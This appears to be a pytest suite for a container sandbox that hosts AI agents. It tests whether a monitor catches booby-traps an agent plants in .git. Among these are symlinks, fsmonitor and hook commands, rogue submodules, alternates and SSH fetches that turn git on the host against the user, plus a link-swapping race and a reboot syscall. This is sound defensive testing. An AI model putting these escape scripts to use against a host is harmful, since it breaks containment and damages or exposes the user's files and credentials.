"""Links that an agent makes in .git, so that git on the host writes or deletes elsewhere.

What is judged is the host: is what such a link leads to as it was, once git has run there?
"""

from __future__ import annotations

import base64
import contextlib
import functools
import os
import shutil
import subprocess

import pytest
from test_cli_sessions import command_line
from test_protection_watch import (
    await_broken,
    await_frozen,
    await_resumed,
    await_watched,
    changes_so_far,
    protection,
)

from tests.programs import NO_CHECKPOINTS, git, wait_until
from tests.unit.test_scan import index_with

pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="needs root on the host")

SCRATCH = f"/tmp/clincus-attack-{os.getpid()}"  # these attacks run on the host as well, in several workers

# Where the link is, what it leads to, and the command of git on the host that goes through it.
ATTACKS = {
    "worktrees that are pruned": ("worktrees", "folder", "worktree prune --expire=now"),
    "worktrees that gc prunes": ("worktrees", "folder", "-c gc.worktreePruneExpire=now gc --quiet"),
    "a rebase that is given up": ("rebase-merge", "folder", "rebase --quit"),
    "an am that is given up": ("rebase-apply", "folder", "rebase --quit"),
    "the text of a commit": ("COMMIT_EDITMSG", "file", "commit --allow-empty -m evil"),
    "the text of a commit, into the sealed config": ("COMMIT_EDITMSG", "config", "commit --allow-empty -m #evil"),
    "the log of HEAD": ("logs/HEAD", "file", "commit --allow-empty -m evil"),
    "the log of a branch": ("logs/refs/heads/main", "file", "commit --allow-empty -m evil"),
    "the folder of logs": ("logs", "folder", "commit --allow-empty -m evil"),
    "the folder of packs": ("objects/pack", "folder", "gc --quiet"),
    "what was fetched": ("FETCH_HEAD", "file", "fetch ."),
    "branches": ("refs/heads", "folder", "commit --allow-empty -m evil"),
    "the text of a merge": ("MERGE_MSG", "file", "merge --no-commit --no-ff side"),
}


def contents(precious, workspace):
    """All that the links of the table lead to."""
    files = sorted(file for file in precious.rglob("*") if file.is_file() or file.is_symlink())
    return {str(file): file.read_text(errors="replace") for file in (*files, workspace / ".git/config")}


def target_of(kind, precious):
    """What a link leads to; the same path in the container is nothing, or something else."""
    return {"folder": f"{precious}/precious", "file": f"{precious}/bashrc", "config": "config"}[kind]


def planting(at, target):
    """The script of an attacker in the workspace."""
    return f"mkdir -p $(dirname .git/{at}) && rm -rf .git/{at} && ln -s {target} .git/{at}"


def act(workspace, words):
    """What the person does; that git fails is none of the test."""
    with contextlib.suppress(subprocess.CalledProcessError):
        git(workspace, *words.split())
    subprocess.run(["chown", "-R", "--no-dereference", "1000:1000", workspace], check=True)


@pytest.fixture
def precious(tmp_path_factory):
    """What an attacker wants git to reach: a folder with something in it, and a file."""
    folder = tmp_path_factory.mktemp("home")
    (folder / "precious" / "inner").mkdir(parents=True)
    (folder / "precious" / "inner" / "data").write_text("kept\n")
    (folder / "bashrc").write_text("# kept\n")
    return folder


@pytest.fixture
def side(workspace):
    """A workspace with a branch to merge."""
    git(workspace, "checkout", "-q", "-b", "side")
    git(workspace, "commit", "-q", "--allow-empty", "-m", "side")
    git(workspace, "checkout", "-q", "-")
    git(workspace, "branch", "-M", "main")
    subprocess.run(["chown", "-R", "1000:1000", workspace], check=True)
    return workspace


@pytest.mark.parametrize("name", ATTACKS)
def test_each_attack_is_one_where_nobody_watches(side, precious, name):
    at, kind, words = ATTACKS[name]
    before = contents(precious, side)
    subprocess.run(["sh", "-ec", planting(at, target_of(kind, precious))], cwd=side, check=True)
    act(side, words)
    assert contents(precious, side) != before


@pytest.mark.parametrize("user", [1000, 0])
def test_no_link_of_a_container_leads_git_on_the_host_out_of_the_folder(bed, start_server, side, precious, user):
    server = start_server(config=NO_CHECKPOINTS)
    session = server.create(side)
    await_watched(server, session)
    before = contents(precious, side)
    for name, (at, kind, words) in ATTACKS.items():
        earlier = changes_so_far(server, session)
        script = f"cd /workspace && {planting(at, target_of(kind, precious))}"
        bed.attack(session["id"], script, user)
        found = await_broken(server, session, earlier)
        act(side, words)
        assert contents(precious, side) == before, name
        [change] = found["changes"][-1:]
        assert (change["path"], change["what"]) == (f"{side}/.git/{at}", "replaced"), name
        assert "put aside" in change["words"], name
        assert not (side / ".git" / at).is_symlink(), name
        server.post(f"/api/sessions/{session['id']}/protection/resolve", {"action": "continue"})
        await_resumed(server, session)
    assert protection(server, session)["level"] == "locked"


def test_a_container_that_goes_on_making_links_is_frozen_and_gains_nothing(bed, start_server, side, precious):
    """It swaps them with folders as fast as it can, so that what is moved may be another thing than what was seen."""
    server = start_server(config=NO_CHECKPOINTS)
    session = server.create(side)
    await_watched(server, session)
    before = contents(precious, side)
    target = target_of("folder", precious)
    script = f"""set +e; cd /workspace/.git && while :; do for one in worktrees rebase-merge logs; do
        rm -rf $one; ln -s {target} $one; rm -f $one; mkdir $one; done; done"""
    bed.attack(session["id"], script)
    await_broken(server, session)
    await_frozen(bed, session)
    wait_until(
        lambda: not any((side / ".git" / one).is_symlink() for one in ("worktrees", "rebase-merge", "logs")),
        "the last links to be put aside",
    )
    act(side, "worktree prune --expire=now")
    assert contents(precious, side) == before


# What is no plain file: git waits at a pipe for a writer, and fails at a socket.
PIPE = "rm -f .git/AT && mkfifo -m 666 .git/AT"
SOCKET = "rm -f .git/AT && perl -MSocket -e 'socket(my $s, AF_UNIX, SOCK_STREAM, 0); bind($s, sockaddr_un(q(.git/AT)))'"


def has_a_reader(pipe):
    """Whether a program waits at a named pipe; it goes on then."""
    try:
        os.close(os.open(pipe, os.O_WRONLY | os.O_NONBLOCK))
    except OSError:
        return False
    return True


def test_a_pipe_and_a_socket_in_the_place_of_the_index_hold_git_up_where_nobody_watches(side):
    subprocess.run(["sh", "-ec", PIPE.replace("AT", "index")], cwd=side, check=True)
    status = ["git", "-c", "safe.directory=*", "status"]
    with subprocess.Popen(status, cwd=side, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL):
        wait_until(lambda: has_a_reader(side / ".git/index"), "git to wait at the pipe")
    subprocess.run(["sh", "-ec", SOCKET.replace("AT", "index")], cwd=side, check=True)
    assert subprocess.run(status, cwd=side, capture_output=True, check=False).returncode == 128


@pytest.mark.parametrize("user", [1000, 0])
@pytest.mark.parametrize("script", [PIPE, SOCKET], ids=["pipe", "socket"])
def test_a_pipe_or_a_socket_in_the_place_of_the_index_is_put_aside(bed, start_server, side, script, user):
    server = start_server(config=NO_CHECKPOINTS)
    session = server.create(side)
    await_watched(server, session)
    bed.attack(session["id"], f"cd /workspace && {script.replace('AT', 'index')}", user)
    found = await_broken(server, session)
    assert f"{side}/.git/index" in [change["path"] for change in found["changes"]]
    wait_until(lambda: not (side / ".git/index").exists(), "it to be put aside")
    git(side, "reset", "-q")
    git(side, "status")


def test_a_pipe_or_a_socket_in_the_place_of_an_object_holds_up_no_look(bed, start_server, side):
    server = start_server(config=NO_CHECKPOINTS)
    session = server.create(side)
    await_watched(server, session)
    for script, commit in ((PIPE, "HEAD"), (SOCKET, "side")):
        name = git(side, "rev-parse", commit).strip()
        path = f"objects/{name[:2]}/{name[2:]}"
        assert (side / ".git" / path).exists()
        done = bed.incus.exec(session["id"], ["sh", "-ec", f"cd /workspace && {script.replace('AT', path)}"], user=1000)
        assert done.code == 0, done.stderr
    assert server.delete(f"/api/sessions/{session['id']}?force=false").status == 204
    assert bed.state(session["id"]) == "Stopped"


REBOOT = "perl -e 'syscall((POSIX::uname())[4] eq q(x86_64) ? 169 : 142, 0xfee1dead, 672274793, 0x1234567)' -MPOSIX"


@pytest.mark.parametrize("seconds", ["0", "0.05", "0.3"])
def test_a_container_that_reboots_itself_after_an_attack_is_frozen_all_the_same(
    bed, start_server, side, precious, seconds
):
    server = start_server(config=NO_CHECKPOINTS)
    session = server.create(side)
    await_watched(server, session)
    before = contents(precious, side)
    at, kind, words = ATTACKS["the text of a commit"]
    script = f"cd /workspace && {planting(at, target_of(kind, precious))}; sleep {seconds}; {REBOOT}"
    bed.attack(session["id"], script, 0)
    found = await_broken(server, session)
    assert f"{side}/.git/{at}" in [change["path"] for change in found["changes"]]
    await_frozen(bed, session)
    act(side, words)
    assert contents(precious, side) == before


def test_without_a_server_the_stop_puts_links_aside_and_the_next_start_asks(bed, home, side, precious):
    cli = command_line(bed, home, side)
    name = cli.background()["name"]
    before = contents(precious, side)
    script = f"cd /workspace && {planting('worktrees', target_of('folder', precious))}"
    assert bed.incus.exec(name, ["sh", "-ec", script], user=1000).code == 0
    done = cli.run("stop", "--force", name)
    assert b"git would have deleted what is there" in done.stderr
    act(side, "worktree prune --expire=now")
    assert contents(precious, side) == before
    refused = cli.run("resume", name)
    assert refused.returncode == 1
    assert b".git/worktrees was a link to" in refused.stderr
    cli.ok("kill", "--force", name)


# What takes effect only once the placeholders are gone, what the person does then, and what is put aside.
# Each is made beside its place and comes there in one step: a look may freeze the container after any other one.
LATE = {
    "a reference that names commondir": (
        r"""h=made/HASH; mkdir -p $h/objects/info $h/refs; cp -r .git/refs/heads $h/refs/
        echo ../../objects >$h/objects/info/alternates; printf '[core]\n\tfsmonitor = touch MARK;false\n' >$h/config
        echo "ref: commondir" >made/ORIG_HEAD; mv -t .git $h made/ORIG_HEAD""",
        ("reset --hard HEAD", "status"),
        {".git/HASH", ".git/ORIG_HEAD"},
    ),
    "a bare repository at the top": (
        r"""mkdir objects refs; echo "ref: refs/heads/x" >made; rm .git/HEAD
        printf '[core]\n\trepositoryformatversion = 0\n\tworktree = WORK\n\tfsmonitor = touch MARK;false\n' >config
        mv made HEAD""",
        ("status",),
        {"HEAD"},
    ),
}


@pytest.fixture
def late(request, side, precious):
    """What an attacker plants, and what the person does."""
    script, acts, aside = LATE[request.param]
    head = git(side, "rev-parse", "HEAD").strip()
    script = script.replace("MARK", f"{precious}/ran").replace("WORK", str(side)).replace("HASH", head)
    return script, acts, {f"{side}/{path.replace('HASH', head)}" for path in aside}


@pytest.mark.parametrize("late", LATE, indirect=True)
def test_what_takes_effect_after_the_stop_is_an_attack_where_nobody_watches(side, precious, late):
    script, acts, _ = late
    subprocess.run(["sh", "-ec", script], cwd=side, check=True)
    for words in acts:
        act(side, words)
    assert (precious / "ran").exists()


@pytest.mark.parametrize("late", LATE, indirect=True)
def test_what_would_take_effect_after_the_stop_is_put_aside_by_then(bed, home, side, precious, late):
    script, acts, aside = late
    cli = command_line(bed, home, side)
    name = cli.background()["name"]
    assert bed.incus.exec(name, ["sh", "-ec", f"cd /workspace && {script}"], user=1000).code == 0
    done = cli.run("stop", "--force", name)
    assert [path for path in aside if path.encode() not in done.stderr] == []
    for words in acts:
        act(side, words)
    assert not (precious / "ran").exists()
    cli.ok("kill", "--force", name)


@pytest.mark.parametrize("late", LATE, indirect=True)
def test_what_would_take_effect_after_the_stop_freezes_a_session_that_is_watched(
    bed, start_server, side, precious, late
):
    script, acts, aside = late
    server = start_server(config=NO_CHECKPOINTS)
    session = server.create(side)
    await_watched(server, session)
    bed.attack(session["id"], f"cd /workspace\n{script}", 1000)
    await_broken(server, session)
    wait_until(lambda: aside <= {one["path"] for one in protection(server, session)["changes"]}, "all to be told")
    server.delete(f"/api/sessions/{session['id']}?force=true")
    for words in acts:
        act(side, words)
    assert not (precious / "ran").exists()


# ---- a submodule of the agent's making -------------------------------------------------------------------------------

# It comes into .git in one step, as a look may freeze the container after any other one.
PLANT_MODULE = r"""mkdir -p made/hooks && cp -r .git/HEAD .git/objects .git/refs made/
printf '[core]\n\tbare = false\n\tworktree = ../../../sub\n[remote "origin"]\n\turl = %s\n' \
    "$(git config -f .gitmodules submodule.sub.url)" >made/config
printf '#!/bin/sh\ntouch MARK\n' >made/hooks/post-checkout
chmod 755 made/hooks/post-checkout
mkdir -p .git/modules && mv made .git/modules/sub"""
PLANT_HELPER = r"""mkdir -p made && cp -r .git/HEAD .git/objects .git/refs made/
printf '[core]\n\tbare = false\n\tworktree = ../../../sub\n[remote "origin"]\n\turl = x\n\tvcs = x/evil\n' \
    >made/config
mkdir -p sub/git-remote-x
printf '#!/bin/sh\ntouch MARK\n' >sub/git-remote-x/evil
chmod 755 sub/git-remote-x/evil
mkdir -p .git/modules && mv made .git/modules/sub"""
UPDATE = "-c protocol.file.allow=always submodule update --init"


@pytest.fixture
def with_submodule(make_workspace, side):
    """A workspace with a submodule that is not there yet, as after a clone."""
    other = make_workspace("other")
    subprocess.run(["chown", "-R", f"{os.getuid()}:{os.getgid()}", other], check=True)  # its git asks who owns it
    git(side, "-c", "protocol.file.allow=always", "submodule", "add", "-q", str(other), "sub")
    git(side, "commit", "-q", "-m", "submodule")
    subprocess.run(["sh", "-ec", "rm -rf .git/modules sub && mkdir sub"], cwd=side, check=True)
    git(side, "config", "--remove-section", "submodule.sub")
    subprocess.run(["chown", "-R", "1000:1000", side], check=True)
    return side


@pytest.mark.parametrize("plant", [PLANT_MODULE, PLANT_HELPER], ids=["hook", "helper"])
def test_a_submodule_of_the_agents_runs_its_program_where_nobody_watches(with_submodule, precious, plant):
    script = plant.replace("MARK", f"{precious}/ran")
    subprocess.run(["sh", "-ec", script], cwd=with_submodule, check=True)
    act(with_submodule, UPDATE)
    act(with_submodule, "-C sub fetch")
    assert (precious / "ran").exists()


@pytest.mark.parametrize(
    "attack",
    [(PLANT_MODULE, "hooks", 1000), (PLANT_MODULE, "hooks", 0), (PLANT_HELPER, "config", 1000)],
    ids=["hook", "hook-root", "helper"],
)
def test_a_submodule_of_the_agents_runs_nothing(bed, start_server, with_submodule, precious, attack):
    plant, told, user = attack
    server = start_server(config=NO_CHECKPOINTS)
    session = server.create(with_submodule)
    await_watched(server, session)
    script = "cd /workspace && " + plant.replace("MARK", f"{precious}/ran")
    bed.attack(session["id"], script, user)
    changes = await_broken(server, session)["changes"]
    assert f"{with_submodule}/.git/modules/sub/{told}" in [change["path"] for change in changes]
    [listed] = server.get("/api/sessions").json
    [warning] = [words for words in listed["warnings"] if "has no seal" in words]
    assert warning.startswith(f"{with_submodule}/.git/modules/sub came after the start")
    act(with_submodule, UPDATE)
    act(with_submodule, "-C sub fetch")
    assert not (precious / "ran").exists()


# A Git folder of a submodule that names no program. SECRET is a repository of the person's. It comes into .git last, as
# the container may be frozen a moment later.
PLANT_REMOTE = r"""rm -rf .git/modules/sub sub SCRATCH && mkdir -p .git/modules sub && git init -q -b main SCRATCH
set -- -c user.name=a -c user.email=a@b -c safe.directory='*'
printf 'gitdir: SCRATCH/.git\n' >sub/.git && echo s >sub/s
git -C sub "$@" add s && git -C sub "$@" commit -qm s && tree=$(git -C sub "$@" rev-parse 'HEAD^{tree}')
printf '[submodule "sub"]\n\tpath = sub\n\turl = https://x.invalid/y\n\tfetchRecurseSubmodules = true\n' >.gitmodules
git "$@" add .gitmodules sub && git "$@" commit -qm sub
printf 'gitdir: ../.git/modules/sub\n' >sub/.git && cd SCRATCH/.git && rm -rf hooks
printf '[core]\n\trepositoryformatversion = 1\n\tbare = false\n\tworktree = ../../../sub\n' >config
printf '[remote "origin"]\n\turl = %s\n\tfetch = +refs/heads/*:refs/remotes/origin/*\n' 'URL' >>config
MORE
cd "$OLDPWD" && cp -r SCRATCH/.git .git/modules/sub
""".replace("SCRATCH", SCRATCH)
PARTIAL = r"""
printf '\tpromisor = true\n\tpartialclonefilter = blob:none\n[extensions]\n\tpartialclone = origin\n' >>config
rm -f "objects/${tree%"${tree#??}"}/${tree#??}"
"""
REACHING = {  # with the URL, what is planted, what of it is put aside, and the command of git on the host
    "a fetch reads a repository": ("SECRET", "", "config", "fetch"),
    "a fetch uses the keys": ("ssh://git@x.invalid/private", "", "config", "fetch"),
    "a status fetches": ("ssh://git@x.invalid/private", PARTIAL, "config", "status"),
    "objects of another repository": (
        "https://x.invalid/y",
        "echo SECRET/.git/objects >objects/info/alternates",
        "objects/info/alternates",
        "-C sub cat-file -e COMMIT",
    ),
}


class Reach:
    """What git on the host could reach in the person's name: a repository with one commit, and hosts by ssh."""

    def __init__(self, repository, home):
        self.repository = repository
        self.mark = home / "ssh"
        self.settings = home / "gitconfig"
        self.settings.write_text("[safe]\n\tdirectory = *\n")
        git(repository, "commit", "-q", "--allow-empty", "-m", "TOPSECRET")
        self.commit = git(repository, "rev-parse", "HEAD").strip()

    def plan(self, name):
        """The script of an attacker, and what the person does then."""
        url, more, _, words = REACHING[name]
        script = PLANT_REMOTE.replace("MORE", more).replace("URL", url).replace("SECRET", str(self.repository))
        return script, words.replace("COMMIT", self.commit).split()

    def is_successful(self, workspace, words):
        """Run git on the host; whether it reached the repository or a host."""
        environ = {**os.environ, "GIT_CONFIG_GLOBAL": str(self.settings), "GIT_CONFIG_SYSTEM": "/dev/null"}
        environ["GIT_SSH_COMMAND"] = f"touch {self.mark}; false"
        done = subprocess.run(["git", "-C", str(workspace), *words], env=environ, capture_output=True, check=False)
        is_read = words[-1] == self.commit and done.returncode == 0
        copies = (workspace / ".git/modules/sub/objects").rglob(self.commit[2:])
        return self.mark.exists() or is_read or any(copies)


@pytest.fixture
def reach(make_workspace, precious):
    return Reach(make_workspace("secret"), precious)


@pytest.fixture
def with_remote(side, make_workspace):
    """A workspace from which git fetches."""
    git(side, "remote", "add", "origin", str(make_workspace("upstream")))
    git(side, "config", "submodule.sub.url", "https://x.invalid/y")
    subprocess.run(["chown", "-R", "1000:1000", side], check=True)
    return side


@pytest.mark.parametrize("name", REACHING)
def test_a_submodule_without_a_program_makes_git_reach_elsewhere_where_nobody_watches(with_remote, reach, name):
    script, words = reach.plan(name)
    subprocess.run(["sh", "-ec", script], cwd=with_remote, check=True)
    subprocess.run(["rm", "-rf", SCRATCH], check=True)
    assert reach.is_successful(with_remote, words)


@pytest.mark.parametrize("name", REACHING)
def test_a_submodule_makes_git_reach_nothing_that_the_agent_has_chosen(bed, start_server, with_remote, reach, name):
    server = start_server(config=NO_CHECKPOINTS)
    session = server.create(with_remote)
    await_watched(server, session)
    script, words = reach.plan(name)
    bed.attack(session["id"], f"cd /workspace\n{script}", 1000)
    found = await_broken(server, session)
    assert f"{with_remote}/.git/modules/sub/{REACHING[name][2]}" in [one["path"] for one in found["changes"]]
    assert git(with_remote, "rev-parse", ":sub")  # the rest of what was planted is there
    assert not reach.is_successful(with_remote, words)


# A new submodule whose working tree is the sealed folder of the person's hooks. What it runs once it is checked out.
PLANT_ON_HOOKS = r"""git init -q -b main SCRATCH && cd SCRATCH && set -- -c user.name=a -c user.email=a@b
git "$@" commit -q --allow-empty -m 0 && printf '#!/bin/sh\ntouch MARK\n' >post-commit && chmod 755 post-commit
git "$@" add . && git "$@" commit -qm 1 && git checkout -q --detach HEAD~ && rm -rf .git/hooks && cd "$OLDPWD"
printf '[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = ../../../.husky\n' >SCRATCH/.git/config
mkdir -p sub .git/modules && echo 'gitdir: ../.git/modules/m' >sub/.git && cp -r SCRATCH/.git .git/modules/m
rm -rf SCRATCH""".replace("SCRATCH", SCRATCH)


@pytest.fixture(params=[False, True], ids=["nobody watches", "watched"])
def is_watched(request) -> bool:
    return request.param


@pytest.fixture
def plant(bed, start_server, side, is_watched):
    """A function that plants something in the workspace, in a session that is broken by a path then, or without one."""

    def run(script: str, path: str) -> None:
        if not is_watched:
            subprocess.run(["sh", "-ec", script], cwd=side, check=True)
            return
        server = start_server(config=NO_CHECKPOINTS)
        session = server.create(side)
        await_watched(server, session)
        bed.attack(session["id"], f"cd /workspace\n{script}", 1000)
        found = await_broken(server, session)
        assert f"{side}/{path}" in [one["path"] for one in found["changes"]]

    return run


def test_a_submodule_on_a_sealed_folder_has_git_write_hooks_there_only_where_nobody_watches(
    plant, side, precious, is_watched
):
    (side / ".husky").mkdir()
    (side / ".husky/pre-push").write_text("true\n")
    git(side, "config", "core.hooksPath", ".husky")
    subprocess.run(["chown", "-R", "1000:1000", side], check=True)
    plant(PLANT_ON_HOOKS.replace("MARK", f"{precious}/ran"), ".git/modules/m/config")
    act(side, "-C sub checkout -q main")
    act(side, "commit -q --allow-empty -m mine")
    assert (precious / "ran").exists() != is_watched


PLANT_BELOW_HOOKS = r"""git init -q -b main SCRATCH && cd SCRATCH && echo s >s.txt
set -- -c user.name=a -c user.email=a@b -c safe.directory='*'
git "$@" add . && git "$@" commit -qm s && commit=$(git "$@" rev-parse HEAD) && cd "$OLDPWD"
printf '[submodule "a/hooks/b"]\n\tpath = sub\n\turl = https://x.invalid/y\n' >.gitmodules
git "$@" add .gitmodules && git "$@" update-index --add --cacheinfo "160000,$commit,sub" && git "$@" commit -qm sub
printf '[core]\n\tworktree = ../../../../../sub\n\tfsmonitor = touch MARK; false\n' >SCRATCH/.git/config
mkdir -p sub .git/modules/a/hooks && cp -r SCRATCH/.git .git/modules/a/hooks/b && rm -rf SCRATCH
""".replace("SCRATCH", SCRATCH)


def test_a_submodule_below_a_folder_of_hooks_runs_only_where_nobody_watches(plant, side, precious, is_watched):
    git(side, "config", "submodule.a/hooks/b.url", "https://x.invalid/y")
    subprocess.run(["chown", "-R", "1000:1000", side], check=True)
    plant(PLANT_BELOW_HOOKS.replace("MARK", f"{precious}/ran"), ".git/modules/a/hooks/b/config")
    subprocess.run(["chown", "-R", f"{os.getuid()}:{os.getgid()}", side], check=True)
    act(side, "-c protocol.file.allow=always submodule update --init")
    assert (precious / "ran").exists() != is_watched


# Where a worktree is, by what git keeps of it: one that the agent makes up, and one that the person has.
WORKTREES = {
    "a made-up one": "mkdir -p .git/worktrees/x && cd .git/worktrees/x && echo ../.. >commondir && "
    "echo 'ref: refs/heads/x' >HEAD && echo TARGET >gitdir",
    "the person's own": "cd .git/worktrees/linked && "
    "{ (echo TARGET >gitdir); echo TARGET >new; mv -f new gitdir; } || true",
}


def repaired(side, precious):
    """Whether git on the host wrote into a folder of the person's that is no worktree."""
    act(side, "worktree repair")
    return (precious / "precious/.git").exists()


@pytest.fixture
def linked(side, precious):
    """A workspace with a worktree elsewhere."""
    git(side, "worktree", "add", "-q", "-b", "linked", str(precious / "linked"))
    subprocess.run(["chown", "-R", "1000:1000", side], check=True)
    return side


@pytest.mark.parametrize("name", WORKTREES)
def test_git_repairs_a_worktree_where_the_agent_says_if_nobody_watches(linked, precious, name):
    script = WORKTREES[name].replace("TARGET", f"{precious}/precious/.git")
    subprocess.run(["sh", "-ec", script], cwd=linked, check=True)
    assert repaired(linked, precious)


@pytest.mark.parametrize("name", WORKTREES)
def test_git_repairs_no_worktree_where_the_agent_says(bed, start_server, linked, precious, name):
    server = start_server(config=NO_CHECKPOINTS)
    session = server.create(linked)
    await_watched(server, session)
    script = WORKTREES[name].replace("TARGET", f"{precious}/precious/.git")
    bed.attack(session["id"], f"cd /workspace\n{script}\ntouch /workspace/ended", 1000)
    if name == "a made-up one":
        await_broken(server, session)
    else:
        wait_until((linked / "ended").exists, "the attack to end")
    assert not repaired(linked, precious)


# What an agent plants in a repository in an extra mount.
IN_A_MOUNT = r"""cd /mnt/other; mkdir .git/rebase-merge; echo 'exec touch MARK' >.git/rebase-merge/git-rebase-todo
for path in onto orig-head; do git rev-parse HEAD >.git/rebase-merge/$path; done
echo refs/heads/main >.git/rebase-merge/head-name; : >.git/rebase-merge/interactive
rm -f .git/COMMIT_EDITMSG; ln -s HOME/bashrc .git/COMMIT_EDITMSG; cp -r .git /tmp/m; mkdir -p .git/modules
printf '[core]\n\tfsmonitor = touch MARK\n' >/tmp/m/config; rm -r /tmp/m/hooks; cp -r /tmp/m .git/modules/m
echo INDEX | base64 -d >/tmp/i; mv -f /tmp/i .git/index; """


@pytest.mark.parametrize("word", ["stop", "kill"])
def test_without_a_server_the_stop_looks_at_a_repository_in_an_extra_mount_too(bed, home, side, precious, word):
    other = side.parent / "other"
    shutil.copytree(side, other, symlinks=True)
    subprocess.run(["chown", "-R", "1000:1000", other], check=True)
    script, acts, aside = LATE["a reference that names commondir"]
    head = git(other, "rev-parse", "HEAD").strip()
    evil = base64.b64encode(index_with(b".git/hooks/post-checkout")).decode()
    words_of = {"HASH": head, "MARK": f"{precious}/ran", "HOME": str(precious), "INDEX": evil}
    script = functools.reduce(lambda text, item: text.replace(*item), words_of.items(), IN_A_MOUNT + script)
    cli = command_line(bed, home, side)
    name = cli.background("--mount", f"{other}:/mnt/other")["name"]
    before = contents(precious, other)
    assert bed.incus.exec(name, ["sh", "-ec", script], user=1000).code == 0
    done = cli.run(word, "--force", name)
    aside = {path.replace("HASH", head) for path in aside}
    aside |= {".git/rebase-merge/git-rebase-todo", ".git/COMMIT_EDITMSG", ".git/modules/m/config", ".git/index"}
    assert [path for path in sorted(aside) if os.path.lexists(other / path)] == [], done.stderr
    for words in (*acts, "rebase --continue", "commit --allow-empty -m evil", "checkout ."):
        act(other, words)
    assert contents(precious, other) == before
    assert not (precious / "ran").exists()
    if word == "stop":
        cli.ok("kill", "--force", name)
